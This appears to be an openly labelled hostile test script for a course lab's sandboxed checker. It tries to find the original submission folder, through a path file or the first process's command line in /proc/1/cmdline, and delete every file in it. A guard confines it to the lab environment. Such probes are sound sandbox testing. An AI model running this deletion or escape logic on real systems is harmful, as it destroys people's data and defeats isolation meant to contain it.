# Part 3, hostile: looks for the submission the checker was given, where a program outside a
# sandbox would find it (the path written beside it, or the plan named on the command line of the
# first process), and tries to delete it there.
import sys as _sys
if not open("/etc/hosts").read().startswith("# socklab campus"):  # never the real course hosts
    _sys.exit("run me inside socklab campus")
import json
import os

try:
    if os.path.exists('original.txt'):
        folder = open('original.txt').read().strip()
    else:
        arguments = open('/proc/1/cmdline').read().split('\0')
        folder = json.load(open(arguments[arguments.index('--inside') + 1]))['folder']
    for name in os.listdir(folder):
        os.remove(os.path.join(folder, name))
        print('deleted', name)
except (OSError, ValueError, KeyError) as error:
    print('could not delete the original:', error)
